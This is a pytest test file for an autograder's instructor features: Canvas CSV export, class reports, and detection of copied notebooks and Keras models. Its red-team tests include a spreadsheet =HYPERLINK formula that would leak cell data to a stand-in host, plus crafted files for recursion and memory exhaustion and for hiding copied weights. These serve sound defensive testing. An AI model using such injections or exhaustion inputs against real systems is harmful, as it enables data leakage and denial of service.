"""What batch grading gives an instructor beyond grades: the class report, similarity flags and
the Canvas gradebook import."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
from pathlib import Path

import pytest

from autograder.exercises import EXERCISES
from autograder.instructor.batch import Grade
from autograder.instructor.canvas import write_canvas_csv
from autograder.instructor.class_report import class_numbers, write_class_report
from autograder.instructor.similarity import class_flags, code_flags
from autograder.submission import GRADED_TAG

GOLDEN_CANVAS = "tests/golden/canvas_import.csv"


def grades() -> list[Grade]:
    return [
        Grade("ada", "f1", "graded", 18, 13, {"build_model.accuracy": 2, "build_cnn.accuracy": 1}),
        Grade(
            "bob",
            "f2",
            "graded",
            6,
            13,
            {"build_model.accuracy": 0, "build_cnn.accuracy": 0},
            seconds=12.5,
            mistakes={"build_model.accuracy": "pixels_not_scaled", "build_cnn.accuracy": "skipped"},
            messages={"build_model.accuracy": "handwritten.keras was trained on raw pixels"},
        ),
        Grade(
            "cy",
            "f3",
            "graded",
            11,
            13,
            {"build_model.accuracy": 0},
            mistakes={"build_model.accuracy": "pixels_not_scaled"},
            messages={"build_model.accuracy": "trained on raw pixels (cy)"},
        ),
        Grade("dee", "f4", "timeout", seconds=600),
    ]


def test_canvas_export_follows_canvas_columns_with_bonus_as_extra_credit(repo, tmp_path):
    out = tmp_path / "canvas.csv"
    write_canvas_csv(grades(), out, assignment="Digits (1234)", id_column="SIS Login ID")
    assert out.read_text() == (repo / GOLDEN_CANVAS).read_text()
    rows = list(csv.DictReader(out.open()))
    assert rows[0]["Student"] == "Points Possible" and rows[0]["Digits (1234)"] == "13"
    assert rows[1]["SIS Login ID"] == "ada" and rows[1]["Digits (1234)"] == "18"  # 5 extra
    assert rows[4]["Digits (1234)"] == ""  # not graded: Canvas keeps what it has


def test_canvas_export_rejects_an_unknown_id_column(tmp_path):
    with pytest.raises(ValueError, match="SIS User ID"):
        write_canvas_csv(grades(), tmp_path / "c.csv", id_column="Email")


def test_class_numbers_count_mistakes_pass_rates_and_failures():
    numbers = class_numbers(grades())
    assert numbers.mistakes == [
        ("pixels_not_scaled", 2, "handwritten.keras was trained on raw pixels")
    ]
    assert numbers.pass_rates["build_model.accuracy"] == (1, 3)
    assert numbers.failures == [("dee", "timeout")]
    assert sorted(numbers.scores) == [6, 11, 18]


def test_a_mistake_counts_once_per_submission_under_one_name():
    """Newcomer: one blank submission showed "not attempted 12" and "not_attempted 3" under
    "submissions", out of 3: every check of an exercise not attempted was counted, the first
    under its mistake id, the others under their outcome."""
    checks = ["build_model.compile", "build_model.architecture", "argmax_accuracy.values"]
    blank = Grade(
        "carol",
        "f6",
        "graded",
        0,
        13,
        dict.fromkeys(checks, 0),
        mistakes={
            checks[0]: "not_attempted",
            checks[1]: "not attempted",
            checks[2]: "not_attempted",
        },
        messages={checks[0]: "build_model() is not written yet"},
    )
    numbers = class_numbers([blank, *grades()])
    assert ("not_attempted", 1, "build_model() is not written yet") in numbers.mistakes
    assert all(name != "not attempted" for name, _, _ in numbers.mistakes)


def test_learner_text_in_the_class_csv_never_runs_as_a_spreadsheet_formula(tmp_path):
    """Red team: an exception message of the learner's reached class.csv as =HYPERLINK(...)."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    learner = Grade(
        "eve",
        "f5",
        "graded",
        0,
        13,
        {"argmax_accuracy.returns_float": 0},
        mistakes={"argmax_accuracy.returns_float": "not_found"},
        messages={"argmax_accuracy.returns_float": formula},
    )
    page = tmp_path / "class.html"
    write_class_report(class_numbers([learner, learner]), page)
    cells = [cell for row in csv.reader(page.with_suffix(".csv").open()) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_class_report_is_one_page_whose_figures_render_in_chromium(tmp_path):
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("chromium is not installed (apt-get install chromium); .ci/run installs it")
    page = tmp_path / "class.html"
    write_class_report(class_numbers(grades()), page)
    text = page.read_text()
    assert "src='http" not in text and "<link" not in text  # self-contained
    assert "pixels_not_scaled" in text and "dee" in text
    assert (tmp_path / "class.csv").read_text().count("mistake,pixels_not_scaled,2") == 1

    probe = tmp_path / "probe.html"  # the page, plus a line that counts the decoded images
    probe.write_text(
        text.replace(
            "</body>",
            "<script>window.onload=()=>{document.body.dataset.rendered=[...document.images]"
            ".filter(i=>i.complete&&i.naturalWidth>100).length}</script></body>",
        )
    )
    command = [chromium, "--headless", "--no-sandbox", "--disable-gpu",
               f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=5000",
               "--dump-dom", probe.as_uri()]  # fmt: skip
    dom = subprocess.run(command, capture_output=True, text=True, timeout=120).stdout
    assert 'data-rendered="3"' in dom, dom[:500]


# ---------------------------------------------------------------- similarity

COPIED = '''import keras


def build_model():
    """My own network."""
    # a comment the copier added
    net = keras.Sequential([keras.Input(shape=(28, 28)), keras.layers.Flatten(),
        keras.layers.Dense(128, activation="relu"), keras.layers.Dense(64, activation="relu"),
        keras.layers.Dense(10, activation="softmax")])
    net.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return net
'''
ORIGINAL = COPIED.replace("net", "model").replace("# a comment the copier added\n    ", "")
HONEST = """from keras import layers, Sequential, Input


def build_model():
    model = Sequential()
    model.add(Input(shape=(28, 28)))
    model.add(layers.Flatten())
    model.add(layers.Dense(128, activation="relu"))
    model.add(layers.Dense(128, activation="relu"))
    model.add(layers.Dense(10, activation="softmax"))
    model.compile("adam", "sparse_categorical_crossentropy", ["accuracy"])
    return model
"""


def small_model(seed: int):
    import keras

    keras.utils.set_random_seed(seed)
    model = keras.Sequential(
        [keras.Input(shape=(28, 28)), keras.layers.Flatten(), keras.layers.Dense(10)]
    )
    return model


def student(folder: Path, source: str, model=None) -> Path:
    folder.mkdir(parents=True)
    notebook = {
        "cells": [{"cell_type": "code", "metadata": {"tags": [GRADED_TAG]}, "source": source}],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (folder / "01_build_model.ipynb").write_text(json.dumps(notebook))
    if model is not None:
        model.save(folder / "handwritten.keras")
    return folder


def test_copied_submissions_are_flagged_and_an_honest_pair_is_not(tmp_path):
    folders = {
        "ann": student(tmp_path / "ann", ORIGINAL, small_model(1)),
        "ben": student(tmp_path / "ben", COPIED),  # ann's model file, renamed code
        "cat": student(tmp_path / "cat", HONEST, small_model(2)),
        "dan": student(tmp_path / "dan", ORIGINAL.replace("64", "32"), small_model(3)),
    }
    # A copied file, byte for byte (two saves of one model differ by their save time)
    shutil.copy(folders["ann"] / "handwritten.keras", folders["ben"] / "handwritten.keras")
    flags = class_flags(folders, EXERCISES)
    pairs = {(flag.kind, flag.students) for flag in flags}
    assert pairs == {("model", ("ann", "ben")), ("code", ("ann", "ben"))}
    assert next(f.detail for f in flags if f.kind == "model") == "handwritten.keras: the same file"


def test_a_model_copied_from_the_reference_solution_is_flagged(tmp_path):
    reference_model = small_model(5)
    reference = student(tmp_path / "reference", ORIGINAL, reference_model)
    folders = {"eve": student(tmp_path / "eve", HONEST, reference_model)}
    flags = class_flags(folders, EXERCISES, {"handwritten.keras": reference / "handwritten.keras"})
    assert [(f.kind, f.students) for f in flags] == [("model", ("eve", "reference solution"))]


def test_the_expected_answer_and_short_answers_are_not_flagged():
    assert code_flags({"a": ORIGINAL, "b": ORIGINAL}, "build_model()", reference=ORIGINAL) == []
    short = "import numpy as np\ndef f(a, b):\n    return float(np.mean(np.argmax(b, 1) == a))\n"
    assert code_flags({"a": short, "b": short}, "argmax_accuracy()") == []


def test_a_cell_nested_beyond_pythons_limits_neither_stops_the_report_nor_hides_a_copy():
    """A valid cell 900 operators deep (it still returns its answer) hit the recursion limit
    while its program was normalized, and `batch --report` wrote no class report; then such a
    line set a copied cell aside unflagged (review)."""
    deep = "def argmax_accuracy(y_true, y_prob):\n    return " + "-" * 900 + "1\n"
    beyond = "def argmax_accuracy(y_true, y_prob):\n    return " + "-" * 1_000_000 + "1\n"
    one_deep_line = "\n_ = " + "-" * 900 + "1\n"
    cells = {"a": deep, "b": deep, "c": beyond, "d": ORIGINAL, "e": ORIGINAL + one_deep_line}
    flags = code_flags(cells, "argmax_accuracy()")
    assert [flag.students for flag in flags] == [("a", "b")]
    cells = {"d": ORIGINAL + one_deep_line, "e": COPIED + one_deep_line}
    assert [flag.students for flag in code_flags(cells, "build_model()")] == [("d", "e")]


def test_a_notebook_nested_beyond_pythons_limits_is_invalid_and_the_report_goes_on(tmp_path):
    """Valid JSON 100,000 lists deep raised RecursionError where the notebook was read: the
    judge stopped with a traceback, and `batch --report` wrote no class report (review)."""
    from autograder.submission import graded_cell

    deep = tmp_path / "deep"
    deep.mkdir()
    notebook = deep / EXERCISES[0].notebook
    notebook.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert "is not a valid notebook" in graded_cell(notebook, EXERCISES[0].function)
    folders = {"ann": student(tmp_path / "ann", ORIGINAL), "ben": student(tmp_path / "ben", COPIED)}
    flags = class_flags({**folders, "deep": deep}, EXERCISES)
    assert [(flag.kind, flag.students) for flag in flags] == [("code", ("ann", "ben"))]


def hidden_model(seed: int, names=("dense", "dense_1")):
    """The exercise's shape, smaller: one hidden layer of 16 units."""
    import keras

    keras.utils.set_random_seed(seed)
    return keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(16, activation="relu", name=names[0]),
            keras.layers.Dense(10, activation="softmax", name=names[1]),
        ]
    )


def rewrite_keras_file(keras_file: Path, change) -> None:
    """Rewrite the members of a .keras file (a zip) with `change(members)`."""
    import zipfile

    with zipfile.ZipFile(keras_file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    change(members)
    with zipfile.ZipFile(keras_file, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def in_h5(change):
    """A rewrite of the model.weights.h5 inside a .keras file with `change(h5_file)`."""

    def rewrite(members) -> None:
        import io

        import h5py

        weights = io.BytesIO(members["model.weights.h5"])
        with h5py.File(weights, "a") as h5:
            change(h5)
        members["model.weights.h5"] = weights.getvalue()

    return rewrite


def _datasets(h5) -> list[str]:
    import h5py

    names: list[str] = []
    h5.visititems(lambda name, item: names.append(name) if isinstance(item, h5py.Dataset) else None)
    return names


def hard_links(h5, keep=()) -> None:
    """Red team: the arrays moved to /a/N, the names Keras reads made hard links to them."""
    for index, name in enumerate(_datasets(h5)):
        if name not in keep:
            h5.move(name, f"a/{index}")
            h5[name] = h5[f"a/{index}"]


def hard_links_but_the_learning_rate(h5) -> None:
    """Red team: the optimizer's learning rate (0.001 in every model) left under its name."""
    hard_links(h5, keep=("optimizer/vars/1",))


def huge_dataset(h5) -> None:  # 1 PiB declared, nothing stored
    h5.create_dataset("zzz", shape=(2**50,), dtype="uint8", chunks=(2**20,), compression="gzip")


def empty_dataset(h5) -> None:
    import h5py

    h5.create_dataset("aaa", data=h5py.Empty("f"))


def text_under_an_optimizer_name(h5) -> None:
    name = next(name for name in _datasets(h5) if name.startswith("optimizer"))
    del h5[name]
    h5.create_dataset(name, data="text")


def units_in_the_billions(members) -> None:
    """A model whose layer asks for 2**31 units (6 TB of weights) when Keras builds it."""
    members["config.json"] = members["config.json"].replace(b'"units": 16', b'"units": 2147483648')


def permuted_hidden_units(model):
    """Red team: the same function with its hidden units in another order, so that no weight
    array is the same."""
    import numpy as np

    kernel, bias, out_kernel, out_bias = model.get_weights()
    order = np.random.default_rng(0).permutation(bias.size)
    copy = hidden_model(0)
    copy.set_weights([kernel[:, order], bias[order], out_kernel[order], out_bias])
    return copy


def renamed_layers(model):
    """A notebook whose cell ran twice names its layers dense_2 and dense_3."""
    copy = hidden_model(0, names=("dense_2", "dense_3"))
    copy.set_weights(model.get_weights())
    return copy


@pytest.mark.slow
def test_a_model_copied_however_its_file_stores_it_is_flagged_and_frames_no_one(tmp_path):
    """Red team: hidden units put in another order, or arrays moved behind hard links, hid a
    copied model (the weights were compared array by array, by the names in the file); an own
    model stored behind hard links with the optimizer's learning rate left in place was
    "identical" to every classmate. Renamed layers, extra, empty, huge or text datasets, and a
    model that asks for 6 TB, neither hide a copy nor stop the report."""
    model = hidden_model(1)
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    model.optimizer.build(model.trainable_variables)  # its arrays are in the file, as trained
    copies = {
        "permuted": (permuted_hidden_units(model), None),
        "renamed": (renamed_layers(model), None),
        "relinked": (model, in_h5(hard_links)),
        "huge": (model, in_h5(huge_dataset)),
        "empty": (model, in_h5(empty_dataset)),
        "text": (model, in_h5(text_under_an_optimizer_name)),
    }
    folders = {"ann": student(tmp_path / "ann", HONEST, model)}
    for name, (copy, change) in copies.items():
        folders[name] = student(tmp_path / name, f"# {name}\n" + ORIGINAL, copy)
        if change is not None:
            rewrite_keras_file(folders[name] / "handwritten.keras", change)
    own = hidden_model(2)
    own.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    own.optimizer.build(own.trainable_variables)
    folders["own"] = student(tmp_path / "own", HONEST.replace("128", "64"), own)
    rewrite_keras_file(
        folders["own"] / "handwritten.keras", in_h5(hard_links_but_the_learning_rate)
    )
    folders["greedy"] = student(tmp_path / "greedy", HONEST.replace("128", "32"), hidden_model(3))
    rewrite_keras_file(folders["greedy"] / "handwritten.keras", units_in_the_billions)

    flags = [flag for flag in class_flags(folders, EXERCISES) if flag.kind == "model"]
    flagged = {student for flag in flags for student in flag.students}
    assert flagged == {"ann", *copies}, flags
    assert len(flags) == len(flagged) * (len(flagged) - 1) // 2  # every pair of copies
    assert all("outputs" in flag.detail for flag in flags)


def test_a_copy_that_differs_only_on_the_noise_probes_is_flagged():
    """Review: a copy can be made to give NaN, or other outputs, on noise only (MNIST's corner
    pixels are always 0), where its grade never looks; the digits give it away."""
    import numpy as np

    from autograder.instructor.probe import CLASSES, PROBE_DIGITS, PROBE_NOISE, PROBE_PARTS
    from autograder.instructor.similarity import model_flags

    outputs = np.random.default_rng(0).normal(size=(PROBE_DIGITS + PROBE_NOISE, CLASSES))
    nan_on_noise, other_on_noise = outputs.copy(), outputs.copy()
    nan_on_noise[PROBE_PARTS["noise"]] = np.nan
    other_on_noise[PROBE_PARTS["noise"]] += 5.0
    honest = np.random.default_rng(1).normal(size=outputs.shape)
    computed = {"ann": outputs, "ben": nan_on_noise, "cat": other_on_noise, "dan": honest}
    digests = {student: student for student in computed}  # four different files
    flags = model_flags(computed, digests, "handwritten.keras")
    assert {flag.students for flag in flags} == {("ann", "ben"), ("ann", "cat"), ("ben", "cat")}


def trained_apart(seed: int):
    """The exercise's dense model trained for one epoch on the offline sample, with its seed."""
    import keras

    from digits.data import load_mnist_sample
    from digits.models import build_dense_model
    from digits.training import fit_model

    (x_train, y_train), _ = load_mnist_sample()
    keras.utils.set_random_seed(seed)
    model = build_dense_model()
    fit_model(model, x_train, y_train, epochs=1)
    return model


def last_layer_scaled(model, factor: float):
    """A copy whose last Dense kernel and bias are multiplied by `factor`: the softmax's
    temperature changes, every digit picked stays."""
    import keras

    copy = keras.models.clone_model(model)
    *hidden, kernel, bias = model.get_weights()
    copy.set_weights([*hidden, kernel * factor, bias * factor])
    return copy


@pytest.mark.slow
def test_a_copy_with_its_last_layer_scaled_is_flagged_and_models_trained_apart_are_not(
    tmp_path,
):
    """Issue 28: a classmate's model with its last layer multiplied by 1.1 picks the same digit
    on every test image but moved its log-probabilities 0.089 apart, past NEAR_IDENTICAL
    (0.02); with a no-op line in the graded cell, nothing was flagged."""
    model = trained_apart(1)
    folders = {
        "ann": student(tmp_path / "ann", ORIGINAL, model),
        "ben": student(tmp_path / "ben", COPIED, last_layer_scaled(model, 1.1)),
        "cat": student(tmp_path / "cat", "x = 0\n" + ORIGINAL, last_layer_scaled(model, 3.0)),
        "dan": student(tmp_path / "dan", HONEST, trained_apart(2)),
        "eve": student(tmp_path / "eve", HONEST.replace("128", "64"), trained_apart(3)),
    }
    flags = [flag for flag in class_flags(folders, EXERCISES) if flag.kind == "model"]
    assert {flag.students for flag in flags} == {("ann", "ben"), ("ann", "cat"), ("ben", "cat")}
    assert all("the same digit picked on 100% of the digits" in flag.detail for flag in flags)


def test_a_file_that_crashes_or_holds_the_probe_is_set_aside_and_the_others_are_compared(
    tmp_path, monkeypatch, capsys
):
    """No learner file can stop the report: a model file that crashes the process reading it,
    or keeps it busy, is set aside alone (and named), and a new process goes on with the rest."""
    import sys

    from autograder.instructor import probe

    child = tmp_path / "child.py"
    child.write_text(
        "import json, os, sys, time\n"
        "import numpy as np\n"
        "folder = sys.argv[-1]\n"
        "for index, path in json.load(open(os.path.join(folder, 'models.json'))):\n"
        "    open(os.path.join(folder, 'current'), 'w').write(str(index))\n"
        "    content = open(path).read()\n"
        "    if content == 'crash':\n"
        "        os._exit(-11)\n"
        "    if content == 'hold':\n"
        "        time.sleep(600)\n"
        "    np.save(os.path.join(folder, f'{index}.npy'), np.array([len(content)]))\n"
    )
    command = [sys.executable, str(child)]
    monkeypatch.setattr(probe, "child_command", lambda scratch, memory: [*command, str(scratch)])
    monkeypatch.setattr(probe, "MODEL_TIMEOUT_S", 2.0)
    contents = ["a", "crash", "bb", "hold", "ccc"]
    paths = [tmp_path / f"{index}.keras" for index in range(len(contents))]
    for path, content in zip(paths, contents, strict=True):
        path.write_text(content)
    outputs = probe.model_outputs(paths)
    assert [None if output is None else int(output[0]) for output in outputs] == [
        1,
        None,
        2,
        None,
        3,
    ]
    said = capsys.readouterr().err
    assert f"{paths[1]} not compared" in said and f"{paths[3]} not compared" in said
